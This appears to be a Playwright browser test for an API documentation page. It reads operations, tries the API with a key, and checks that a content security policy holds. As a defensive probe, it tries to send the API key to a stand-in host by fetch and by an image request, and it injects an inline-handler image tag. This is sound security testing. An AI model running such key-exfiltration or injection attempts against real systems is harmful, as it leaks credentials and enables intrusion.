// Looks at the page KEYFERRY_URL/docs as somebody does who wants to try the API out: opens it, reads an operation and what an app's
// credential consists of, types an API key in, lists the accounts, and comes back later. What there was to see goes to the standard
// output as one JSON object. The browser can reach nothing but the server.
import { createRequire } from "node:module";
import { join } from "node:path";

const { KEYFERRY_BROWSER, KEYFERRY_CHROMIUM, KEYFERRY_PROFILE, KEYFERRY_URL, KEYFERRY_API_KEY, KEYFERRY_SCREENSHOT } = process.env;
const require = createRequire(join(KEYFERRY_BROWSER, "package.json"));
const { chromium } = require("playwright-core");

const context = await chromium.launchPersistentContext(KEYFERRY_PROFILE, {
    executablePath: KEYFERRY_CHROMIUM,
    headless: true,
    chromiumSandbox: false,
    viewport: { width: 1440, height: 1000 },
    args: [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
    ],
});
context.setDefaultTimeout(60_000);
const page = context.pages()[0] ?? (await context.newPage());

const requests = [];
const complaints = [];
page.on("request", (request) => requests.push({ url: request.url(), key: request.headers()["x-api-key"] ?? null }));
page.on("console", (message) => ["error", "warning"].includes(message.type()) && complaints.push(message.text()));
page.on("pageerror", (error) => complaints.push(String(error)));
await page.exposeFunction("violated", (directive, uri) => complaints.push(`policy: ${directive} ${uri}`));
await page.addInitScript(() => {
    addEventListener("securitypolicyviolation", (event) => violated(event.effectiveDirective, event.blockedURI));
});

const menu = page.locator("nav.nav-bar");
const content = page.locator("openapi-explorer main");
const open = async (name) => {
    await menu.getByText(name, { exact: true }).first().click();
};
// All that stands in an element, in its parts' own trees, too.
const text = (locator) =>
    locator.evaluate((element) => {
        const inside = (node) => {
            const children = [...(node.shadowRoot?.childNodes ?? []), ...node.childNodes];
            const own = node.nodeType === Node.TEXT_NODE ? node.textContent.trim() : "";
            return node.nodeName === "STYLE" ? "" : [own, ...children.map(inside)].filter(Boolean).join(" ");
        };
        return inside(element);
    });

await page.goto(`${KEYFERRY_URL}/docs`);
await menu.getByText("Front ends", { exact: true }).waitFor();
const seen = { title: await page.title(), menu: await text(menu), overview: await text(content) };

await open("Put a credential onto a linked account");
await content.getByText("/api/v2/public/migrate-token").first().waitFor();
seen.operation = await text(content);
await page.screenshot({ path: KEYFERRY_SCREENSHOT });

await open("HubSpot");
seen.schema = await text(content.locator("[id='cmp--schemas-migratetoken.hubspot']"));

await open("Authentication");
const key = content.locator("tr", { hasText: "x-api-key" });
await key.locator("input").fill(KEYFERRY_API_KEY);
await key.getByText("SET").click();
await open("List linked accounts");
const answer = page.waitForResponse((response) => response.url().includes("/api/"));
await content.getByText("EXECUTE").click();
seen.tried = (await answer).status();
await content.getByText("user_1").first().waitFor();
seen.requests = [...requests];
seen.complaints = [...complaints];

// A page that was talked into it would still not send a key elsewhere, or do what a text that it shows says.
const before = complaints.length;
seen.sent = await page.evaluate(async (key) => {
    const elsewhere = "https://elsewhere.example/";
    const attempts = {
        fetch: () => fetch(elsewhere, { headers: { "x-api-key": key } }),
        image: () => new Promise((sent, refused) => Object.assign(new Image(), { onload: sent, onerror: refused, src: elsewhere })),
        text: () => {
            document.body.insertAdjacentHTML("beforeend", `<img src="docs/icon.svg" onload="window.ran = true">`);
            return new Promise((later) => setTimeout(later, 500)).then(() => window.ran || Promise.reject());
        },
    };
    const worked = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        await attempt().then(() => worked.push(name), () => {});
    }
    return worked;
}, KEYFERRY_API_KEY);
seen.refused = complaints.slice(before).filter((complaint) => complaint.startsWith("policy: "));

const typed = requests.length;
await page.reload();
await open("List linked accounts");
const later = page.waitForResponse((response) => response.url().includes("/api/"));
await content.getByText("EXECUTE").click();
seen.later = (await later).status();
seen.laterKeys = requests.slice(typed).filter((request) => request.key !== null);
seen.stored = await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]));
await context.close();
console.log(JSON.stringify(seen));
